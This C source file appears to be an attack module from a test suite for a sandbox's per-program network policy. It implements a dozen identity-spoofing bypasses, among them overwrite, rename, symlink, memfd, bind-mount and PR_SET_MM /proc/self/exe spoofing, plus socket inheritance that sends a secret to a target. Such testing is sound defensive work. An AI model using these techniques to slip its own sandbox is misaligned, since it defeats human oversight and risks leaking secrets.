/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The policy lets one binary out, and this is another one: pretend to be it.
 * Every mode ends in a program that asks for the allowed host as
 * `plain allowed` does; THROUGH means that an unlisted program reached it.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define SELF "/proc/self/exe"

/* Run @path (or, if NULL, @fd) as `plain allowed`; its verdict is ours. */
static enum verdict run(const struct scene *s, const char *path, int fd)
{
	char name[128], file[32];
	char *const argv[] = {(char *)(uintptr_t)(path ? path : s->permitted),
			      (char *)(uintptr_t) "plain",
			      (char *)(uintptr_t) "allowed", name, NULL};
	char *const envp[] = {NULL};
	pid_t child;
	int status;

	snprintf(name, sizeof(name), "aport=%u", ntohs(s->allowed4.sin_port));
	child = fork();
	if (child == 0) {
		/* not fexecve(3): its execveat(2) may be refused by itself */
		snprintf(file, sizeof(file), "/proc/self/fd/%d", fd);
		execve(path ? path : file, argv, envp);
		_exit((int)failed("execve"));
	}
	if (child < 0 || waitpid(child, &status, 0) != child ||
	    !WIFEXITED(status))
		return say(REFUSED, "the program did not end by itself");
	return (enum verdict)WEXITSTATUS(status);
}

static bool copy(int to)
{
	int from = open(SELF, O_RDONLY | O_CLOEXEC);
	struct stat st;
	bool done = from >= 0 && fstat(from, &st) == 0;

	for (off_t left = done ? st.st_size : 0; left > 0;) {
		ssize_t n = sendfile(to, from, NULL, (size_t)left);

		if (n <= 0)
			return false;
		left -= n;
	}
	close(from);
	/* not the permitted program: one byte more */
	return done && write(to, "", 1) == 1;
}

/* A copy of this program at @path. */
static bool plant(const char *path, int flags)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC | flags, 0755);
	bool done = fd >= 0 && copy(fd);

	if (fd >= 0)
		close(fd);
	return done;
}

/* No trick: an unlisted program asks for the allowed host. */
static enum verdict unlisted(const struct scene *s)
{
	return run(s, SELF, -1);
}

/* The same inode with other contents, before the binary was ever used. */
static enum verdict overwrite(const struct scene *s)
{
	if (!plant(s->permitted, O_TRUNC))
		return failed("overwrite");
	return run(s, s->permitted, -1);
}

/* The same after its first use, which may have been remembered. */
static enum verdict overwrite_used(const struct scene *s)
{
	if (run(s, s->permitted, -1) != THROUGH)
		return say(UNTRIED, "the permitted binary itself was refused");
	return overwrite(s);
}

static enum verdict replace(const struct scene *s)
{
	char path[256];

	snprintf(path, sizeof(path), "%s.new", s->permitted);
	if (!plant(path, O_CREAT) || rename(path, s->permitted) != 0)
		return failed("replace");
	return run(s, s->permitted, -1);
}

/* Deleted, and another one made under its name. */
static enum verdict recreate(const struct scene *s)
{
	if (unlink(s->permitted) != 0 || !plant(s->permitted, O_CREAT | O_EXCL))
		return failed("recreate");
	return run(s, s->permitted, -1);
}

/* /proc/PID/exe ends in " (deleted)": is the rest of it believed? */
static enum verdict deleted(const struct scene *s)
{
	char path[256];
	int fd;

	snprintf(path, sizeof(path), "%s (deleted)", s->permitted);
	if (!plant(path, O_CREAT))
		return failed("plant");
	fd = open(path, O_RDONLY | O_CLOEXEC);
	unlink(path);
	return run(s, NULL, fd);
}

/* A name that the policy lists, in a folder of the agent's. */
static enum verdict symlinked(const struct scene *s)
{
	char target[64];
	ssize_t n = readlink(SELF, target, sizeof(target) - 1);

	target[n > 0 ? n : 0] = '\0';
	if (unlink(s->permitted) != 0 || symlink(target, s->permitted) != 0)
		return failed("symlink");
	return run(s, s->permitted, -1);
}

/* A file in memory whose name is the permitted binary's. */
static enum verdict in_memory(const struct scene *s)
{
	int fd = memfd_create(s->permitted, MFD_CLOEXEC);

	if (fd < 0)
		return failed("memfd_create");
	if (!copy(fd))
		return failed("copy");
	return run(s, NULL, fd);
}

/* Mounted over the permitted binary: the path is right, the file isn't. */
static enum verdict bind_mount(const struct scene *s)
{
	char self[64];
	ssize_t n = readlink(SELF, self, sizeof(self) - 1);

	self[n > 0 ? n : 0] = '\0';
	if (mount(self, s->permitted, NULL, MS_BIND, NULL) != 0)
		return failed("mount");
	return run(s, s->permitted, -1);
}

/*
 * Copy one mapping into anonymous memory and move that over it. The text is
 * among them: the next instruction is the same, in another page.
 */
static bool detach(uintptr_t start, uintptr_t end, int prot)
{
	size_t size = end - start;
	void *at = (void *)start;
	void *copied = mmap(NULL, size, PROT_READ | PROT_WRITE,
			    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (copied == MAP_FAILED)
		return false;
	memcpy(copied, at, size);
	return mprotect(copied, size, prot) == 0 &&
	       mremap(copied, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, at) ==
		       at;
}

/* No page of this program may come from its file any longer. */
static bool detach_all(void)
{
	static char maps[16384];
	char self[64], perms[5], path[64], *line, *next = maps;
	int fd = open("/proc/self/maps", O_RDONLY | O_CLOEXEC);
	ssize_t n = readlink(SELF, self, sizeof(self) - 1);
	uintptr_t start, end;
	size_t len = 0;

	self[n > 0 ? n : 0] = '\0';
	while ((n = read(fd, maps + len, sizeof(maps) - 1 - len)) > 0)
		len += (size_t)n;
	close(fd);
	while ((line = strsep(&next, "\n"))) {
		if (sscanf(line, "%lx-%lx %4s %*s %*s %*s %63s", &start, &end,
			   perms, path) != 4 ||
		    strcmp(path, self) != 0)
			continue;
		if (!detach(start, end,
			    (perms[0] == 'r' ? PROT_READ : 0) |
				    (perms[1] == 'w' ? PROT_WRITE : 0) |
				    (perms[2] == 'x' ? PROT_EXEC : 0)))
			return false;
	}
	return true;
}

/* What the kernel knows of this program's memory, to be told the same. */
static bool own_map(struct prctl_mm_map *map)
{
	__u64 *const fields[53] = {
		[26] = &map->start_code,  [27] = &map->end_code,
		[28] = &map->start_stack, [45] = &map->start_data,
		[46] = &map->end_data,	  [47] = &map->start_brk,
		[48] = &map->arg_start,	  [49] = &map->arg_end,
		[50] = &map->env_start,	  [51] = &map->env_end,
	};
	char stat[1024], *at, *field;
	FILE *file = fopen("/proc/self/stat", "re");

	if (!file || !fgets(stat, sizeof(stat), file))
		return false;
	fclose(file);
	at = strrchr(stat, ')');
	if (!at)
		return false;
	at += 2;
	for (int i = 3; i < 53 && (field = strsep(&at, " ")); i++)
		if (fields[i])
			*fields[i] = strtoull(field, NULL, 10);
	map->brk = (uintptr_t)sbrk(0);
	return true;
}

/* Make /proc/self/exe show the permitted binary. */
static enum verdict set_exe(const struct scene *s)
{
	struct prctl_mm_map map = {0};
	int fd = open(s->permitted, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return failed("open");
	if (!own_map(&map) || !detach_all())
		return failed("leave one's own file");
	map.exe_fd = (uint32_t)fd;
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0) != 0)
		return failed("PR_SET_MM");
	return reach_allowed(s);
}

/* argv[0] and the process's name are the agent's to choose. */
static enum verdict renamed(const struct scene *s)
{
	prctl(PR_SET_NAME, "permitted", 0, 0, 0);
	return run(s, SELF, -1);
}

/*
 * Inherent: a permitted program may hand its socket on. It still leads to
 * that endpoint and nowhere else: the heir tries the target with it.
 */
enum { LEGACY_FD = 9 };

static enum verdict heir(const struct scene *s)
{
	struct iovec iov = {(char *)(uintptr_t)s->secret, strlen(s->secret)};
	struct msghdr msg = {.msg_name = (char *)(uintptr_t)&s->target4,
			     .msg_namelen = sizeof(s->target4),
			     .msg_iov = &iov,
			     .msg_iovlen = 1};
	const struct sockaddr nobody = {.sa_family = AF_UNSPEC};
	enum verdict direct;

	if (connect(LEGACY_FD, &nobody, sizeof(nobody)) != 0)
		return failed("connect(AF_UNSPEC)");
	if (sendmsg(LEGACY_FD, &msg, MSG_FASTOPEN) >= 0)
		return say(THROUGH, "sent");
	direct = failed("sendmsg");
	if (connect(LEGACY_FD, (const void *)&s->target4, sizeof(s->target4)) !=
	    0)
		return direct;
	return say(THROUGH, "connected");
}

/* The permitted program's part: be allowed, then become an unlisted one. */
static enum verdict bequeath(const struct scene *s)
{
	char target[64], port[32],
		*argv[] = {target, target, target, target, port, NULL};
	char address[INET_ADDRSTRLEN];
	char *const envp[] = {NULL};
	int fd = new_socket(AF_INET, SOCK_STREAM, 0);

	if (connect(fd, (const void *)&s->allowed4, sizeof(s->allowed4)) != 0)
		return say(UNTRIED, "the allowed connect failed");
	if (dup2(fd, LEGACY_FD) < 0)
		return failed("dup2");
	inet_ntop(AF_INET, &s->target4.sin_addr, address, sizeof(address));
	snprintf(target, sizeof(target), "target=%s", address);
	snprintf(port, sizeof(port), "port=%u", ntohs(s->target4.sin_port));
	argv[0] = (char *)(uintptr_t) "attack";
	argv[1] = (char *)(uintptr_t) "identity";
	argv[2] = (char *)(uintptr_t) "heir";
	execve("/bin/attack", argv, envp);
	return failed("execve");
}

const struct attack attack_identity = {
	"identity",
	(const struct mode[]){{"unlisted", unlisted},
			      {"renamed", renamed},
			      {"overwrite", overwrite},
			      {"overwrite-used", overwrite_used},
			      {"replace", replace},
			      {"recreate", recreate},
			      {"deleted", deleted},
			      {"symlink", symlinked},
			      {"memory", in_memory},
			      {"bind-mount", bind_mount},
			      {"set-exe", set_exe},
			      {"bequeath", bequeath},
			      {"heir", heir},
			      {0}},
};
